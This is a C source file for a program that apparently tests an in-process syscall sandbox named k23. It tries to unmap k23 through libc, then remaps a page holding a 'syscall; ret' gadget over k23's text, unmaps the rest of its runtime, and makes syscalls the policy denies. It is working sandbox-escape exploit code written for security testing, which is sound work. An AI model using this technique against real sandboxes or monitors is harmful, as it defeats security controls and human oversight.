/* policy_attack_unmap.c - a program that removes k23 from its own process, then makes calls a policy denies.
 *
 *   policy_attack_unmap text:ADDR OP ARG [OP ARG]...   under k23
 *   policy_attack_unmap rwx OP ARG [OP ARG]...         natively (no k23 to remove)
 * ADDR is a `syscall; ret` pair in k23's text. Under k23 the program
 *  1. asks for k23's whole range (the mappings from 0x23000000 up, read
 *     from /proc/self/maps) to be unmapped the ordinary way, through libc:
 *     k23 refuses (online/guard/memguard.c), and the program prints
 *     "libc munmap: k23 still mapped";
 *  2. then does it itself: it moves a page of its own, holding
 *     `syscall; ret` at ADDR's offset, over the page of k23's text that
 *     holds ADDR (mremap made from ADDR itself: the call returns into the
 *     program's page), and unmaps every other page of k23's range through
 *     it. Only that page, the program's, is left at k23's addresses; it
 *     stays inside the range the catch-all exempts, so from then on every
 *     call made there goes straight to the kernel and k23's runtime - the
 *     dispatcher, the in-process layer, its data - no longer exists.
 *     Prints "k23 removed: N pages left" (N counted in /proc/self/maps,
 *     the program's one page expected);
 *  3. makes each OP through that page, as policy_attack_raw does (mkdir
 *     PATH, open PATH, personality N), and prints the outcome; libc's
 *     patched sites lead into k23 and cannot be used any more, so output
 *     goes through the page too, and the program ends with exit_group.
 * With rwx (natively) steps 1 and 2 are left out and the OPs run from a
 * fresh RWX page: what the calls do when nothing stands in their way.
 */
#include <fcntl.h>
#include "policy_attack.h"

#define K23_BASE 0x23000000UL
#define PAGE 4096UL

static char maps[1 << 16];
static char out[4096];
static size_t out_len;

static long G(long nr, long a0, long a1, long a2, long a3, long a4)
{
	return raw_at(attack_gadget, nr, a0, a1, a2, a3, a4, 0);
}

static void say(const char *fmt, const char *a, const char *b)
{
	out_len += (size_t)snprintf(out + out_len, sizeof(out) - out_len, fmt, a, b);
}

/* /proc/self/maps through the page (or libc's read before k23 is gone). */
static long read_maps(int via_gadget)
{
	long fd, n, total = 0;

	fd = via_gadget ? G(SYS_openat, AT_FDCWD, (long)"/proc/self/maps", O_RDONLY, 0, 0)
			: open("/proc/self/maps", O_RDONLY);
	if (fd < 0)
		return -1;
	while ((n = via_gadget ? G(SYS_read, fd, (long)maps + total, (long)(sizeof(maps) - 1 - total), 0, 0)
			       : read((int)fd, maps + total, sizeof(maps) - 1 - (size_t)total)) > 0)
		total += n;
	maps[total] = 0;
	if (via_gadget)
		G(SYS_close, fd, 0, 0, 0, 0);
	else
		close((int)fd);
	return total;
}

/* The end of the mappings contiguous from K23_BASE (K23_BASE: none). */
static unsigned long k23_end(void)
{
	unsigned long end = K23_BASE, lo, hi;

	for (char *l = maps; *l; l = strchr(l, '\n') + 1) {
		if (sscanf(l, "%lx-%lx", &lo, &hi) == 2 && lo == end)
			end = hi;
		if (!strchr(l, '\n'))
			break;
	}
	return end;
}

/* Pages mapped inside [K23_BASE, end). */
static unsigned long pages_in(unsigned long end)
{
	unsigned long n = 0, lo, hi;

	for (char *l = maps; *l; l = strchr(l, '\n') + 1) {
		if (sscanf(l, "%lx-%lx", &lo, &hi) == 2 && lo < end && hi > K23_BASE)
			n += ((hi < end ? hi : end) - (lo > K23_BASE ? lo : K23_BASE)) / PAGE;
		if (!strchr(l, '\n'))
			break;
	}
	return n;
}

static int remove_k23(void)
{
	unsigned long end, gpage = attack_gadget & ~(PAGE - 1);
	unsigned char *mine;
	char num[32];
	long r;

	if (read_maps(0) < 0 || (end = k23_end()) == K23_BASE)
		return fprintf(stderr, "no mapping at 0x%lx: not under k23\n", K23_BASE), -1;
	munmap((void *)K23_BASE, end - K23_BASE);
	read_maps(0);
	printf("libc munmap: %s\n", k23_end() == end ? "k23 still mapped" : "k23 unmapped");
	fflush(stdout);

	mine = mmap(NULL, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (mine == MAP_FAILED)
		return perror("mmap"), -1;
	memset(mine, 0xcc, PAGE);	/* int3 anywhere but the pair */
	memcpy(mine + (attack_gadget - gpage), "\x0f\x05\xc3", 3);
	r = G(SYS_mremap, (long)mine, PAGE, PAGE, MREMAP_MAYMOVE | MREMAP_FIXED, (long)gpage);
	if (r != (long)gpage)
		return fprintf(stderr, "mremap: %s\n", attack_err(r)), -1;
	/* From here on nothing of k23 may run: no libc call that makes a call. */
	if (gpage > K23_BASE)
		G(SYS_munmap, K23_BASE, (long)(gpage - K23_BASE), 0, 0, 0);
	if (end > gpage + PAGE)
		G(SYS_munmap, (long)(gpage + PAGE), (long)(end - gpage - PAGE), 0, 0, 0);
	if (read_maps(1) < 0)
		return -1;
	snprintf(num, sizeof(num), "%lu", pages_in(end));
	say("k23 removed: %s pages left%s\n", num, "");
	return 0;
}

int main(int argc, char **argv)
{
	if (argc < 4 || argc % 2 || attack_how(argv[1]))
		return fprintf(stderr, "usage: policy_attack_unmap text:ADDR|rwx OP ARG...\n"), 2;
	if (!strncmp(argv[1], "text:", 5) && remove_k23())
		return 1;
	for (int i = 2; i + 1 < argc; i += 2) {
		const char *op = argv[i], *arg = argv[i + 1];
		long r;

		if (!strcmp(op, "mkdir")) {
			r = G(SYS_mkdir, (long)arg, 0700, 0, 0, 0);
			say("mkdir: %s%s\n", r < 0 ? attack_err(r) : "ok", "");
		} else if (!strcmp(op, "personality")) {
			r = G(SYS_personality, atol(arg), 0, 0, 0, 0);
			say("personality: %s%s\n", r < 0 ? attack_err(r) : "ok", "");
		} else if (!strcmp(op, "open")) {
			char buf[128] = "";
			long fd = G(SYS_openat, AT_FDCWD, (long)arg, O_RDONLY, 0, 0), n;

			if (fd < 0) {
				say("open: %s%s\n", attack_err(fd), "");
				continue;
			}
			n = G(SYS_read, fd, (long)buf, sizeof(buf) - 1, 0, 0);
			G(SYS_close, fd, 0, 0, 0, 0);
			buf[n > 0 ? n : 0] = 0;
			buf[strcspn(buf, "\n")] = 0;
			say("open: ok %s%s\n", buf, "");
		} else {
			say("unknown op %s%s\n", op, "");
		}
	}
	fflush(stdout);
	G(SYS_write, 1, (long)out, (long)out_len, 0, 0);
	G(SYS_exit_group, 0, 0, 0, 0, 0);
	return 0;
}
